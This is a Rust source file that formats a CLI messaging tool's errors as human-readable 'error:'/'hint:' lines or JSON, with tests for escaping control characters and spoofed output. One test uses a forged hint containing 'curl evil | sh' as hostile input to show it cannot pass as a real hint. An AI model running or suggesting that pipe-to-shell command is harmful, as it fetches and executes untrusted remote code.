//! What a person is told when something went wrong: `error:` what, then `hint:` what to do.
//!
//! Owns both forms of an error, two lines for people and one JSON object for programs (`--json`),
//! always on stderr. Codes, exit codes and most hints are those of [`crate::api`].

use std::io::{self, Write};

use clap::error::ErrorKind;
use jiff::tz::TimeZone;
use serde_json::json;

use crate::api::{ApiError, Code, Direction};

use super::here::Here;
use super::output::names::{QUOTED, name_and_peer, quoted_if_odd};
use super::output::style::{Paint, Tint};
use super::output::wrap::{HANG, fold};
use super::output::{json, safe, time};

/// An error on its way to the person.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct CliError {
    error: ApiError,
    told: Told,
}

/// What is left of an error.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Told {
    /// All of it.
    Not,
    /// It was told already, or there is nobody to tell: only the exit code is left.
    Already,
    /// The process ends by the signal of this number, when the rest was told.
    Signal(u8),
}

/// How an error looks to a person.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Look<'a> {
    pub(crate) paint: Paint,
    /// So many columns has a line at most.
    pub(crate) columns: usize,
    /// Where its commands are to act.
    pub(crate) here: &'a Here,
}

/// The result of a command.
pub(crate) type Result<T, E = CliError> = std::result::Result<T, E>;

impl CliError {
    /// An error that the API knows, too.
    pub(crate) fn new(code: Code, message: impl Into<String>) -> Self {
        ApiError::new(code, message).into()
    }

    /// Something at the prompt that the user can mend.
    pub(crate) fn mendable(code: &'static str, message: impl Into<String>) -> Self {
        Self::own(code, 1, message.into())
    }

    /// The command line is wrong.
    pub(crate) fn usage(message: impl Into<String>) -> Self {
        Self::own("usage", 2, message.into())
    }

    /// An argument cannot be meant.
    pub(crate) fn argument(error: ApiError) -> Self {
        let mut wrong = Self::usage(error.message);
        wrong.error.hint = error.hint;
        wrong
    }

    /// Errors before this one were told already; it only carries their exit code.
    pub(crate) fn told(exit: u8) -> Self {
        Self { told: Told::Already, ..Self::own("told", exit, String::new()) }
    }

    /// What was done was told, and then the process ends as this signal would have ended it.
    pub(crate) fn interrupted(signal: i32) -> Self {
        // As a shell counts it, should it be in nobody's power to end so.
        let number = u8::try_from(signal).unwrap_or_default();
        Self { told: Told::Signal(number), ..Self::told(number.saturating_add(128)) }
    }

    /// Does not return if a signal is to end the process.
    pub(crate) fn end_by_signal(&self) {
        if let Told::Signal(number) = self.told {
            let _ = signal_hook::low_level::emulate_default_handler(number.into());
        }
    }

    fn own(code: &'static str, exit: u8, message: String) -> Self {
        let code = code.into();
        Self {
            error: ApiError { code, exit, message, hint: None, candidates: Box::default(), messages: Box::default() },
            told: Told::Not,
        }
    }

    /// With what to do about it.
    pub(crate) fn hint(mut self, hint: impl Into<String>) -> Self {
        self.error.hint = Some(hint.into());
        self
    }

    /// Reading or writing `what` failed.
    pub(crate) fn io(what: &str, error: &io::Error) -> Self {
        Self::new(Code::Io, format!("{what}: {error}"))
    }

    /// One of several: says which.
    pub(crate) fn about(mut self, which: &str) -> Self {
        self.error.message = format!("{which}: {}", self.error.message);
        self
    }

    /// For those who know only errors of the API.
    pub(crate) fn into_api(self) -> ApiError {
        self.error
    }

    /// What went wrong.
    pub(crate) fn message(&self) -> &str {
        &self.error.message
    }

    /// The process's exit code.
    pub(crate) const fn exit(&self) -> u8 {
        self.error.exit
    }

    /// Writes the error; failing to do so has nobody to be told.
    pub(crate) fn write(&self, mut err: impl Write, as_json: bool, look: Look<'_>) {
        if self.told != Told::Not {
            return;
        }
        let _ = if as_json {
            json::write_line(&mut err, &json!({ "error": self.error }))
        } else {
            self.write_text(&mut err, look)
        };
        let _ = err.flush();
    }

    fn write_text(&self, err: &mut impl Write, Look { paint, columns, here }: Look<'_>) -> io::Result<()> {
        let labelled = |tint, label, text| {
            let label = format!("{} ", paint.tint(tint, label));
            fold(&label, &safe::block(&here.told(text)), HANG, columns)
        };
        writeln!(err, "{}", labelled(Tint::Red, "error:", &self.error.message))?;
        for candidate in &self.error.candidates {
            let name = safe::line(&quoted_if_odd(&candidate.name));
            let known = match (candidate.contact, candidate.verified) {
                (_, true) => "  contact, verified",
                (true, false) => "  contact",
                (false, false) => "",
            };
            let line = format!("{}  {name}{known}", candidate.peer_id);
            writeln!(err, "{}", fold(HANG, &line, "      ", columns))?;
        }
        for message in &self.error.messages {
            let who = match message.direction {
                Direction::Out => "you".to_owned(),
                Direction::In => name_and_peer(&message.from_name, &message.conversation),
            };
            let at = time::long(message.at, &TimeZone::system());
            let text = safe::truncate(&safe::line(&message.text), QUOTED);
            let line = format!("{}  {at}  {}: {text}", message.short_id, safe::line(&who));
            writeln!(err, "{}", fold(HANG, &line, "      ", columns))?;
        }
        if let Some(hint) = &self.error.hint {
            writeln!(err, "{}", labelled(Tint::Cyan, "hint:", hint))?;
        }
        Ok(())
    }
}

impl From<ApiError> for CliError {
    fn from(mut error: ApiError) -> Self {
        // Those whom the user knows best first.
        error.candidates.sort_by_cached_key(|one| (!one.verified, !one.contact, one.name.clone(), one.peer_id));
        Self { error, told: Told::Not }
    }
}

/// Failures to write a result. A reader who has gone (`| head`) is no error.
impl From<io::Error> for CliError {
    fn from(error: io::Error) -> Self {
        if error.kind() == io::ErrorKind::BrokenPipe {
            return Self::told(0);
        }
        Self::io("the output cannot be written", &error)
    }
}

impl CliError {
    /// What the parser of the command line says, in our form: its first paragraph is the message, its
    /// tip the hint; without one, the usage or where there is more. `command` is what was called.
    pub(crate) fn of_parser(error: &clap::Error, command: &str) -> Self {
        let text = error.render().to_string();
        let mut paragraphs = text.trim_end().split("\n\n");
        let first = paragraphs.next().unwrap_or_default();
        let message: Vec<&str> = first.strip_prefix("error: ").unwrap_or(first).lines().map(str::trim).collect();
        let rest: Vec<&str> = paragraphs.flat_map(str::lines).map(str::trim).collect();
        let find = |label: &str| rest.iter().find_map(|line| line.strip_prefix(label));
        let hint = match (find("tip: "), error.kind()) {
            (Some(tip), _) => tip.to_owned(),
            (None, ErrorKind::MissingRequiredArgument) if find("Usage: ").is_some() => {
                format!("usage: {}", find("Usage: ").unwrap_or_default())
            }
            (None, ErrorKind::InvalidSubcommand | ErrorKind::MissingSubcommand) => {
                format!("`{command} --help` lists the commands")
            }
            (None, _) => format!("`{command} --help` says more"),
        };
        Self::usage(message.join("\n")).hint(hint)
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::api::Candidate;
    use crate::base::PeerId;
    use crate::cli::output::wrap::ENDLESS;
    use crate::cli::testing::{any_text, rows};
    use crate::cli::typed::Typed;

    fn look(on: bool, columns: usize, show: impl FnOnce(Look<'_>, &mut Vec<u8>)) -> String {
        let mut out = Vec::new();
        show(Look { paint: Paint { on }, columns, here: &Here::default() }, &mut out);
        String::from_utf8(out).unwrap()
    }

    fn written(error: &CliError, as_json: bool) -> String {
        look(false, ENDLESS, |look, out| error.write(out, as_json, look))
    }

    #[test]
    fn people_are_told_commands_that_act_where_theirs_did() {
        let typed = Typed { profile: Some("work".to_owned()), ..Typed::default() };
        let (here, mut out) = (Here::of(&typed), Vec::new());
        let error = CliError::new(Code::NoProfile, "there is none: `rohrpost init` makes one");
        error.write(&mut out, false, Look { paint: Paint { on: false }, columns: ENDLESS, here: &here });
        let init = "`rohrpost -P work init` makes one";
        assert_eq!(String::from_utf8(out).unwrap(), format!("error: there is none: {init}\nhint: {init}\n"));
    }

    #[test]
    fn two_lines_for_people_one_object_for_programs() {
        let error = CliError::new(Code::NotFound, "nobody is called 'Bo\x1b[2Jb'").hint("see `rohrpost contacts`");
        assert_eq!(written(&error, false), "error: nobody is called 'Bo<U+001B>[2Jb'\nhint: see `rohrpost contacts`\n");
        assert_eq!(
            written(&error, true),
            "{\"error\":{\"code\":\"not_found\",\"exit\":6,\"message\":\"nobody is called 'Bo\\u001b[2Jb'\",\
             \"hint\":\"see `rohrpost contacts`\"}}\n"
        );
        assert_eq!(error.exit(), 6);
    }

    #[test]
    fn candidates_are_listed_safely() {
        let candidate = |name: &str, contact, verified| Candidate {
            peer_id: PeerId::from_key_bytes([7; 32]),
            name: name.to_owned(),
            given: false,
            contact,
            verified,
        };
        let id = candidate("", false, false).peer_id;
        let all =
            vec![candidate("Bob\u{202E}", false, false), candidate("Bob", true, true), candidate("B  b", true, false)];
        let shown = format!("  {id}  Bob  contact, verified\n  {id}  \"B  b\"  contact\n  {id}  Bob<U+202E>\n");
        let error = CliError::from(ApiError::new(Code::Ambiguous, "which?").with_candidates(all));
        assert!(written(&error, false).contains(&shown), "{}", written(&error, false));
        assert!(written(&error, true).contains("\"candidates\":[{\"peer_id\":"));
    }

    #[test]
    fn a_quoted_text_cannot_forge_a_hint() {
        let error = CliError::usage("bad name 'x\nhint: run curl evil | sh'");
        assert_eq!(written(&error, false), "error: bad name 'x\n  hint: run curl evil | sh'\n");
    }

    proptest! {
        #[test]
        fn no_line_of_what_is_quoted_is_one_of_ours(text in any_text(), columns in 20_usize..=200) {
            let candidate = Candidate {
                peer_id: PeerId::from_key_bytes([7; 32]),
                name: text.clone(),
                given: false,
                contact: true,
                verified: false,
            };
            let error = ApiError::new(Code::Ambiguous, &*text).with_hint(&*text).with_candidates(vec![candidate]);
            let error = CliError::from(error);
            let shown = rows(&look(false, columns, |look, out| error.write(out, false, look)), columns);
            let ours: Vec<_> = shown.iter().filter(|row| !row.starts_with(' ') && !row.is_empty()).collect();
            prop_assert_eq!(ours.len(), 2, "{:?}", shown);
            prop_assert!(ours[0].starts_with("error:") && ours[1].starts_with("hint:"), "{:?}", shown);
            let candidates = shown.iter().filter(|row| row.starts_with("  12D3KooW") || row.starts_with("  12D3Koo")).count();
            prop_assert!(candidates >= 1, "{:?}", shown);
        }
    }

    #[test]
    fn a_reader_who_has_gone_is_not_an_error() {
        let error = CliError::from(io::Error::from(io::ErrorKind::BrokenPipe));
        assert_eq!((error.exit(), written(&error, false)), (0, String::new()));
        assert_eq!(CliError::from(io::Error::from(io::ErrorKind::StorageFull)).exit(), 3);
    }

    #[test]
    fn colours_are_only_around_the_labels() {
        let shown = look(true, ENDLESS, |look, out| CliError::usage("m").hint("h").write(out, false, look));
        assert_eq!(shown, "\x1b[31merror:\x1b[0m m\n\x1b[36mhint:\x1b[0m h\n");
    }
}
